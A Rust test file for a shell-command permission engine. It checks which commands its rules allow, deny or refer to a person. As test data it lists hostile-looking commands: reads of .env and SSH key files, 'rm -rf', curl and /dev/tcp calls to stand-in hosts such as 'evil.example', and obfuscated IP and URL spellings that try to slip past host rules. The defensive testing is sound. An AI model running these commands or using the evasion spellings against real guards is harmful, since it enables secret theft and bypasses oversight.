//! Lists with `*` for words, exceptions, and rules by effect.

#![expect(clippy::unwrap_used, reason = "a test may")]

use shellgate_policy::{
    CommandContext, Decision, EffectName, EffectRule, Entry, Machine, Prefix, Preset, Rule, Rules, Verdict,
    judge,
};

/// Rules and a root of their own, which isn't in the folder for temporary files: rules are about that.
struct Case {
    folder: tempfile::TempDir,
    rules: Rules,
}

fn prefix(text: &str) -> Prefix {
    let words = text.split(' ').map(str::to_owned).collect();
    match text {
        "*" => Prefix::Everything,
        text if text.contains('*') => Prefix::Pattern(words),
        _ => Prefix::Words(words),
    }
}

fn entry(text: &str) -> Entry {
    Entry { prefix: prefix(text), shown: text.to_owned() }
}

fn rule(text: &str, decision: Decision, except: &[&str]) -> Rule {
    let except = except.iter().map(|text| prefix(text)).collect();
    Rule { entry: entry(text), decision, reason: None, except }
}

fn effect(effect: EffectName, targets: &[&str], except: &[&str], decision: Decision) -> EffectRule {
    let owned = |list: &[&str]| list.iter().map(|one| (*one).to_owned()).collect();
    let (targets, except) = (owned(targets), owned(except));
    EffectRule { shown: effect.to_string(), effect, targets, except, decision, reason: None }
}

fn case() -> Case {
    // Not in the repository that this file is in, whose remotes may be anywhere.
    let folder = tempfile::tempdir_in("/var/tmp").unwrap();
    for name in ["sub", "home/.ssh", "build"] {
        std::fs::create_dir_all(folder.path().join(name)).unwrap();
    }
    for name in ["a.md", ".env", "home/.ssh/config", "build.sh"] {
        std::fs::write(folder.path().join(name), "").unwrap();
    }
    Case { folder, rules: Rules::default() }
}

fn allowing(list: &[&str]) -> Case {
    let mut case = case();
    case.rules.rules = list.iter().map(|text| rule(text, Decision::Allow, &[])).collect();
    case
}

fn denying(list: &[&str]) -> Case {
    let mut case = case();
    case.rules.core = Some(vec![entry("*")]);
    case.rules.exclude = list.iter().map(|text| entry(text)).collect();
    case
}

impl Case {
    fn verdict(&self, text: &str) -> Verdict {
        let root = self.folder.path().canonicalize().unwrap();
        let machine = Machine::new(&root, &root, Some(root.join("home")), std::env::var_os("PATH").unwrap());
        judge(text, &CommandContext::default(), &self.rules, &machine)
    }

    fn says(&self, decision: Decision, texts: &[&str]) {
        for text in texts {
            let verdict = self.verdict(text);
            assert_eq!(verdict.decision(), decision, "{text}: {:?}", verdict.reasons());
        }
    }
}

#[test]
fn a_star_in_an_allow_entry_stands_for_words_as_they_are_written() {
    let case = allowing(&["npm run *", "git * main", "* --version", "make test:*", "git fetch"]);
    case.says(
        Decision::Allow,
        &[
            "npm run test",
            "git push origin main",
            "cat --version",
            "make test:unit",
            "git fetch",
            "git fetch origin",
        ],
    );
    case.says(
        Decision::Ask,
        &[
            "npm run",
            "npm install",
            "git push origin mainline",
            "git push $x main",
            "cat a.md --version",
            "./cat --version",
            "make tests",
            "git fetches",
        ],
    );
}

#[test]
fn a_star_in_a_deny_entry_matches_any_spelling() {
    let case = denying(&["git * main", "rm -rf *", "* --force", "docker run * bash"]);
    case.says(
        Decision::Deny,
        &[
            "git push origin main",
            "git -C sub push origin main",
            "/usr/bin/git push -q origin main",
            "rm -fr x",
            "rm -r -f x",
            "git push -f",
            "docker container run -it image bash",
            "env git push origin main",
        ],
    );
    case.says(Decision::Ask, &["git push origin $branch", "xargs git push"]);
    case.says(Decision::Allow, &["git push origin dev", "rm x", "git status"]);
}

#[test]
fn harmless_options_before_a_subcommand_break_no_allow_entry() {
    let case = allowing(&[
        "git log",
        "kubectl get",
        "gh pr list",
        "terraform plan",
        "docker ps",
        "npm run test",
        "cargo build",
        "git log *",
    ]);
    case.says(
        Decision::Allow,
        &[
            "git --no-pager log",
            "git -C sub log",
            "kubectl -n x get pods",
            "gh -R o/r pr list",
            "terraform -chdir=sub plan",
            "docker --context x ps",
            "npm --prefix sub run test",
            "cargo +nightly build",
        ],
    );
    case.says(
        Decision::Ask,
        &[
            "git -c core.pager=x log",
            "git -C /etc log",
            "git --exec-path=sub log",
            "git --no-pager push log",
            "git $x log",
            "docker -H tcp://other ps",
        ],
    );
}

#[test]
fn what_a_call_runs_may_be_named_beside_it() {
    let case = allowing(&[
        "bash",
        "./build.sh",
        "docker exec",
        "ls",
        "uv run",
        "pytest",
        "env",
        "timeout",
        "cargo test",
    ]);
    case.says(
        Decision::Allow,
        &[
            "bash build.sh",
            "bash ./build.sh",
            "docker exec c ls -l",
            "uv run pytest",
            "timeout 5 ls",
            "env A=1 cargo test",
        ],
    );
    case.says(
        Decision::Ask,
        &["bash other.sh", "docker exec c rm x", "echo rm > build.sh; bash build.sh", "timeout 5 rm x"],
    );
    allowing(&["bash build.sh"]).says(Decision::Allow, &["bash build.sh"]);
    allowing(&["bash"]).says(Decision::Ask, &["bash build.sh"]);
}

#[test]
fn an_exception_is_about_the_whole_command() {
    let mut case = case();
    case.rules.core = Some(vec![entry("*")]);
    case.rules.rules = vec![
        rule("rm -rf", Decision::Deny, &["rm -rf /media/*"]),
        rule("git push", Decision::Ask, &["git push origin dev"]),
    ];
    case.says(Decision::Deny, &["rm -rf x", "rm -rf /media/a /etc", "rm -rf /media/../etc", "rm -rf $x"]);
    case.says(Decision::Ask, &["git push", "git push origin dev main", "git push origin $x"]);
    case.says(Decision::Allow, &["rm -rf /media/a", "rm -rf /media/a /media/b", "git push origin dev"]);
    case.rules.core = None;
    case.rules.rules = vec![rule("git", Decision::Allow, &["git push"])];
    case.says(Decision::Allow, &["git status"]);
    case.says(Decision::Ask, &["git push", "git -C sub push"]);
}

#[test]
fn beyond_an_allowlist_a_default_decides() {
    let mut case = case();
    case.rules.core = Some(vec![entry("git")]);
    case.says(Decision::Deny, &["ls"]);
    case.rules.beyond_core = Decision::Ask;
    case.says(Decision::Ask, &["ls"]);
    case.says(Decision::Allow, &["git status"]);
    case.rules.beyond_core = Decision::Allow;
    case.says(Decision::Allow, &["ls"]);
}

#[test]
fn the_temporary_folder_is_free() {
    let mut case = case();
    case.rules.preset = Some(Preset::Cautious);
    case.rules.effects =
        vec![effect(EffectName::Write, &["/media/**"], &["/media/keep/**"], Decision::Allow)];
    case.says(
        Decision::Allow,
        &["touch /media/q", "echo a > /media/q", "cp a.md /media/q", "touch /media/x/../q"],
    );
    case.says(
        Decision::Ask,
        &[
            "touch q",
            "echo a > q",
            "touch /media/../etc/q",
            "touch /media/keep/q",
            "touch /media/q /etc/q",
            "touch $x",
            "rm /media/q",
            "ln -s /etc /media/l; touch /media/l/q",
            "cd $x && touch q",
            // The first command may fail, and then the second is in the root.
            "cd /media && touch q",
        ],
    );
}

#[test]
fn env_files_and_keys_ask() {
    let mut case = case();
    case.rules.core = Some(vec![entry("*")]);
    case.rules.effects = vec![effect(EffectName::Read, &["**/.env", "~/.ssh/**"], &[], Decision::Ask)];
    case.says(
        Decision::Ask,
        &[
            "cat .env",
            "cat sub/../.env",
            "cd sub && cat ../.env",
            "cat ~/.ssh/config",
            "cat ~/.ssh/*",
            "cat .e*",
            "cat s*/.env",
            "cat \"$HOME/.ssh/config\"",
            "cp -r ~ copy",
            "cat $x",
        ],
    );
    case.says(Decision::Allow, &["cat a.md", "cat *.md", "ls sub", "cat .env.sample"]);
    for rule in &mut case.rules.effects {
        rule.decision = Decision::Deny;
    }
    case.says(Decision::Deny, &["cat .env", "cat ~/.ssh/config"]);
    case.says(Decision::Ask, &["cat $x", "ls ~"]);
}

#[test]
fn deleting_is_denied_but_in_some_folders() {
    let mut case = case();
    case.rules.core = Some(vec![entry("*")]);
    case.rules.effects = vec![effect(EffectName::Delete, &[], &["/media/**", "build/**"], Decision::Deny)];
    case.says(
        Decision::Deny,
        &["rm a.md", "rm -rf build", "rm /media/q a.md", "rm /media/../etc/q", "rm -rf /media"],
    );
    case.says(Decision::Allow, &["rm /media/q", "rm -rf build/x", "cat a.md"]);
}

#[test]
fn the_network_is_free_to_some_hosts() {
    let mut case = case();
    case.rules.effects =
        vec![effect(EffectName::Network, &["*.example.org"], &["bad.example.org"], Decision::Allow)];
    case.says(Decision::Allow, &["curl https://a.example.org/x", "curl -s https://A.EXAMPLE.org/"]);
    case.says(
        Decision::Ask,
        &[
            "curl https://example.net/",
            "curl https://a.example.org/ example.net",
            "curl --url https://example.net https://a.example.org/",
            "curl -x http://example.net https://a.example.org/",
            "curl https://a.example.org.example.net/",
            "curl https://a.example.org@example.net/",
            "curl https://bad.example.org/",
            "curl https://$x.example.org/",
            "curl -o /etc/x https://a.example.org/",
        ],
    );
    case.rules.core = Some(vec![entry("*")]);
    case.rules.effects = vec![effect(EffectName::Network, &["*.example.org"], &[], Decision::Deny)];
    case.says(
        Decision::Deny,
        &[
            "curl https://a.example.org/",
            "curl https://example.net/ a.example.org",
            "curl -x http://a.example.org https://example.net/",
        ],
    );
    case.says(Decision::Ask, &["curl https://$x/", "curl 'https://{a.example.org,x.net}/'"]);
    case.says(Decision::Allow, &["curl https://example.net/", "ls"]);
}

#[test]
fn an_exception_for_one_host_is_none_for_the_others() {
    let case = open_but(effect(EffectName::Network, &[], &["10.9.9.8"], Decision::Deny));
    case.says(
        Decision::Deny,
        &[
            "curl http://10.9.9.9/b",
            "curl http://10.9.9.8/a http://10.9.9.9/b",
            "curl http://10.9.9.8/a --next -d @a.md http://10.9.9.9/b",
            "curl http://10.9.9.8/a 10.9.9.9",
            "curl --url http://10.9.9.9 http://10.9.9.8/",
            "curl -x http://10.9.9.9 http://10.9.9.8/",
            "curl http://10.9.9.8@10.9.9.9/",
            "wget http://10.9.9.8/a http://10.9.9.9/b",
            "aria2c http://10.9.9.8/a http://10.9.9.9/b",
            "dig 10.9.9.8 evil.example",
            "dig @evil.example 10.9.9.8",
            "host 10.9.9.8 evil.example",
            "nslookup 10.9.9.8 evil.example",
        ],
    );
    case.says(
        Decision::Ask,
        &[
            "curl 'http://10.9.9.8/' 'http://10.9.9.[8-9]/'",
            "curl http:/10.9.9.9 http://10.9.9.8",
            "curl http://10.9.9.8/a \"$x\"",
            "curl --connect-to ::10.9.9.9: http://10.9.9.8/",
            "wget -H -r http://10.9.9.8/",
        ],
    );
    case.says(
        Decision::Allow,
        &[
            "curl http://10.9.9.8/a",
            "curl -o x http://10.9.9.8/a http://10.9.9.8/b",
            "curl 10.9.9.8:80/x",
            "curl \"http://10.9.9.8/$x\"",
            "curl http://168364296/",
            "wget http://10.9.9.8/a",
            "dig 10.9.9.8 MX +short",
            "ping -c1 10.9.9.8",
            "git ls-remote http://10.9.9.8/x",
        ],
    );
}

#[test]
fn what_fetches_besides_reaches_the_network() {
    let fetching =
        ["docker pull evil.example/x", "docker run evil.example/x", "docker login", "apt-get update"];
    open_but(effect(EffectName::Network, &[], &[], Decision::Deny)).says(Decision::Deny, &fetching);
}

#[test]
fn a_rule_about_a_host_is_about_its_other_spellings() {
    let hosts = ["10.9.9.9", "127.0.0.1", "evil.example"];
    let case = open_but(effect(EffectName::Network, &hosts, &[], Decision::Deny));
    case.says(
        Decision::Deny,
        &[
            "curl http://10.9.9.9/",
            "curl http://168364297/",
            "curl http://0x0a090909/",
            "curl http://012.011.011.011/",
            "curl http://10.9.2313/",
            "curl 'http://[::ffff:10.9.9.9]/'",
            "curl 'http://[::FFFF:a09:909]:80/'",
            "ping 10.592137",
            "git clone http://168364297/x",
            "curl http://127.1/",
            "curl http://0/",
            "curl http://localhost/",
            "curl 'http://[::1]/'",
            "curl http://EVIL.example./",
        ],
    );
    case.says(
        Decision::Ask,
        &["curl http://\u{ff45}vil.example", "curl 'http://[e-e]vil.example'", "curl http://e%76il.example"],
    );
    case.says(
        Decision::Allow,
        &[
            "curl http://10.9.9.10/",
            "curl http://168364298/",
            "curl http://notevil.example/",
            "curl http://evil.example.org/",
            "dig example.org",
        ],
    );
    let mut case = allowing(&["ls"]);
    case.rules.effects = vec![effect(EffectName::Network, &["10.9.9.9"], &[], Decision::Allow)];
    case.says(Decision::Allow, &["curl http://10.9.9.9/", "curl http://168364297/"]);
    case.says(
        Decision::Ask,
        &[
            "curl http://168364298/",
            "curl http://10.9.9.9/ http://10.9.9.10/",
            "curl http://10.9.9.256/",
            "aria2c --all-proxy=evil.example http://10.9.9.9/x",
        ],
    );
}

/// Everything is free, and one rule says otherwise.
fn open_but(rule: EffectRule) -> Case {
    let mut case = case();
    case.rules.preset = Some(Preset::Open);
    case.rules.effects = vec![rule];
    case
}

#[test]
fn a_rule_about_reading_is_about_every_way_to_read() {
    let case = open_but(effect(EffectName::Read, &["**/.env"], &[], Decision::Deny));
    case.says(
        Decision::Deny,
        &[
            "cat .env",
            "cat < .env",
            "head -1 <./.env",
            "mapfile a < .env",
            "while read l; do echo $l; done < .env",
            "< .env",
            "{ cat; } < .env",
            "exec 3< .env",
            "wc -l 0< .env",
            "mv .env x; cat x",
            "mv -t sub .env",
            "ln .env x; cat x",
            "ln -s .env x; cat x",
            "cp .env x",
            "zip x -@ <<< .env",
        ],
    );
    case.says(
        Decision::Ask,
        &[
            "cat $x",
            "ls | xargs cat",
            "find . -name .env -exec cat {} +",
            "find . | zip x -@",
            "for f in .env *.md; do cat \"$f\"; done",
            "yq -n 'load_str(\".env\")'",
        ],
    );
    case.says(
        Decision::Allow,
        &[
            "cat a.md",
            "cat < a.md",
            "wc -l < a.md",
            "mv a.md b.md",
            "while read l; do echo $l; done < a.md",
            "cat <<< .env",
        ],
    );
}

/// Who runs a file reads it, code may do anything with what it is told, and git keeps what files were.
#[test]
fn a_rule_about_a_path_is_about_code_that_is_told_it() {
    let mut case = case();
    case.rules.preset = Some(Preset::Balanced);
    case.rules.confined = true;
    case.rules.effects = vec![
        effect(EffectName::Read, &["**/.env"], &[], Decision::Deny),
        effect(EffectName::Write, &["build/**"], &[], Decision::Deny),
        effect(EffectName::Network, &["bad.example.org"], &[], Decision::Deny),
    ];
    case.says(Decision::Deny, &["source .env", ". ./.env", "bash .env", "m4 sub/../.env"]);
    case.says(
        Decision::Ask,
        &[
            "python3 -c 'print(open(\".env\").read())'",
            "node -e 'console.log(require(\"fs\").readFileSync(\".env\", \"utf8\"))'",
            "npx dotenv -e .env -- ls",
            "git show HEAD:.env",
            "git cat-file -p :.env",
            "python3 -c 'open(\"build/x\", \"w\")'",
            "tsc --outDir build",
            "tsc --outDir=build",
            "npx esbuild a.js --outfile=build/x",
            "make -C build",
            "python3 -c 'import urllib.request as u; u.urlopen(\"http://bad.example.org/x\")'",
            "curl 'http://{bad,good}.example.org'",
            "curl 'http://ba[a-e].example.org'",
            "curl http://b%61d.example.org",
            "h=bad.example.org; cat < /dev/tcp/$h/80",
        ],
    );
    case.says(
        Decision::Allow,
        &[
            "python3 -c 'print(open(\"a.md\").read())'",
            "tsc --outDir dist",
            "git show HEAD:a.md",
            "git show HEAD:.env.sample",
            "python3 sub/x.py",
            "python3 -c 'import urllib.request as u; u.urlopen(\"http://good.example.org/x\")'",
            "curl http://good.example.org/{a,b}",
        ],
    );
}

#[test]
fn a_rule_about_deleting_is_about_every_way_to_delete() {
    let case = open_but(effect(EffectName::Delete, &[], &["build/**"], Decision::Deny));
    case.says(
        Decision::Deny,
        &[
            "rsync --delete a/ src/",
            "rsync -a --delete-after a/ src/",
            "zstd --rm src/a.txt",
            "gzip src/a.txt",
            "xz src/a.txt",
            "gunzip src/a.gz",
            "7z a -sdel x.7z src",
            "rsync -a --remove-source-files src/ build/",
            "zip -m x.zip src/a.txt",
            "tar --remove-files -cf x.tar src",
        ],
    );
    case.says(
        Decision::Allow,
        &[
            "rsync -a a/ src/",
            "zstd src/a.txt",
            "gzip -k src/a.txt",
            "gzip -c src/a.txt",
            "7z a x.7z src",
            "gzip build/a.txt",
        ],
    );
}

#[test]
fn a_rule_about_publishing_knows_keys_streams_and_requests() {
    let case = open_but(effect(EffectName::Publish, &[], &[], Decision::Deny));
    case.says(
        Decision::Deny,
        &[
            "gpg --send-keys x",
            "gh api -f a=b repos/x/y/issues",
            "gh api -X POST repos/x/y/issues",
            "ffmpeg -i x rtmp://y",
        ],
    );
    case.says(
        Decision::Allow,
        &["gpg --recv-keys x", "gh api repos/x/y", "gh api -X GET search -f q=x", "ffmpeg -i x y.mp4"],
    );
}

#[test]
fn a_rule_that_allows_hosts_allows_no_file() {
    let mut case = case();
    case.rules.preset = Some(Preset::Cautious);
    case.rules.effects = vec![effect(EffectName::Network, &["*.example.org"], &[], Decision::Allow)];
    case.says(
        Decision::Ask,
        &[
            "wget http://a.example.org",
            "wget -q http://a.example.org/x.tgz",
            "wget -P sub http://a.example.org/x",
        ],
    );
    case.says(
        Decision::Allow,
        &[
            "wget -qO- http://a.example.org",
            "wget --spider http://a.example.org",
            "curl http://a.example.org",
        ],
    );
}

#[test]
fn who_is_asked_by_a_rule_gets_no_other_reason() {
    let mut case = case();
    case.rules.rules = vec![rule("git push", Decision::Ask, &[])];
    let verdict = case.verdict("git push");
    let messages: Vec<&str> = verdict.reasons().iter().map(|reason| reason.message.as_str()).collect();
    assert_eq!(messages, ["a rule wants a person to be asked"]);
    let verdict = case.verdict("make");
    let hint = verdict.reasons().first().unwrap().hint.clone().unwrap();
    assert!(hint.contains("`allow`") && !hint.contains("core"), "{hint}");
}

#[test]
fn both_parts_of_a_runner_need_an_entry() {
    for (entries, text) in [
        (["xargs", "rg"], "ls | xargs rg foo"),
        (["npx", "tsc"], "npx tsc --noEmit"),
        (["bash", "./build.sh"], "bash build.sh"),
        (["docker exec", "ls"], "docker exec c ls"),
        (["uv run", "pytest"], "uv run pytest -q"),
    ] {
        let mut all = entries.to_vec();
        all.push("ls");
        allowing(&all).says(Decision::Allow, &[text]);
    }
}
